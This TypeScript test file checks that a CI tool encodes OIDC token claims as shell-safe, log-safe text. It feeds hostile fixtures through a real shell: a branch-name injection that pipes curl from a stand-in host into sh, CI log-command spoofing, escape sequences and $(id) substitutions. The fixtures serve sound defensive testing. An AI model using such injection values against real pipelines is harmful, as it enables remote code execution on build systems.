import { execFileSync } from 'node:child_process'
import { neutralise } from '@mayfly/core/foreign-text'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { claimsWord, isPrintable, printableClaims, shownClaims } from './claims.ts'

const hostile = [
  "refs/heads/x';curl\u0024{IFS}evil.example|sh;'",
  'a ::add-mask::b ##[error]c section_start:1:x section_end:2:y',
  '\u001b[31m\r\n\u202e\u2028',
  '$(id) `id` "\\" %COMSPEC%',
  '***',
]

/** The claims as a shell gives them to a program. */
function throughShell(words: readonly string[]): unknown[] {
  const script = words.map((word) => `printf '%s\\n' ${word}`).join('\n')
  const lines = execFileSync('sh', ['-c', script], { encoding: 'utf8' }).trimEnd().split('\n')
  return lines.map((line) => JSON.parse(line))
}

test('a shell reads the claims as they are, also hostile ones', () => {
  const claims = hostile.map((text) => ({ sub: text, ref: text, environment: text }))
  expect(throughShell(claims.map(claimsWord))).toEqual(claims)
})

test('whatever a claim contains, the word has one line of printable ASCII, and a log does not change it', () => {
  const text = fc.oneof(fc.string({ unit: 'binary' }), fc.string(), fc.constantFrom(...hostile))
  fc.assert(
    fc.property(fc.record({ sub: text, ref: text, workflow: text, environment: text }), (claims) => {
      const word = claimsWord(claims)
      expect(word).toMatch(/^'[ -&(-~]*'$/)
      expect(neutralise(`mayfly trust explain ${word} < document`, 4096)).toBe(
        `mayfly trust explain ${word} < document`,
      )
      expect(JSON.parse(word.slice(1, -1))).toEqual(printableClaims(claims))
    }),
    { numRuns: 50 },
  )
})

test('who started a job, and what differs in each token, is not printed', () => {
  const never = ['jti', 'actor', 'actor_id', 'user_email', 'user_login', 'user_id', 'user_identities', 'groups_direct']
  const more = ['exp', 'iat', 'nbf', 'sha', 'run_id', 'job_id', '__proto__', 'constructor']
  expect([...never, ...more].filter(isPrintable)).toEqual([])
  const claims = Object.fromEntries([...never, ...more, 'ref', 'repo_property_team'].map((name) => [name, 'x']))
  expect(printableClaims(claims)).toEqual({ ref: 'x', repo_property_team: 'x' })
  expect(shownClaims(claims)).toEqual(['ref', 'repo_property_team'])
})

test('a value that is too long is replaced, and all of them fit into one line of a log', () => {
  const long = Object.fromEntries(
    ['sub', 'ref', 'environment', 'workflow', 'workflow_ref', 'job_workflow_ref', 'base_ref', 'head_ref', 'enterprise']
      .map((name) => [name, '\u20ac'.repeat(60)] as const)
      .concat([['repository', 'x'.repeat(500)]]),
  )
  const word = claimsWord(long)
  expect(word.length).toBeLessThan(4000)
  expect(printableClaims(long)).toMatchObject({ sub: '\u20ac'.repeat(60), repository: '[...]', enterprise: '[...]' })
})

test('the claims of a usual job have less than 1 KiB', () => {
  const workflow = 'acme/workflows/.github/workflows/deploy.yml@refs/heads/main'
  const claims = {
    iss: 'https://token.actions.githubusercontent.com',
    sub: 'repo:acme@12345678/api@123456789:environment:production',
    aud: 'sts.amazonaws.com',
    repository: 'acme/api',
    repository_id: '123456789',
    repository_owner: 'acme',
    repository_owner_id: '12345678',
    repository_visibility: 'private',
    environment: 'production',
    event_name: 'workflow_dispatch',
    ref: 'refs/heads/main',
    ref_type: 'branch',
    ref_protected: 'true',
    base_ref: '',
    head_ref: '',
    workflow: 'Deploy',
    workflow_ref: workflow,
    job_workflow_ref: workflow,
    runner_environment: 'github-hosted',
  }
  expect(claimsWord(claims).length).toBeLessThan(1024)
})
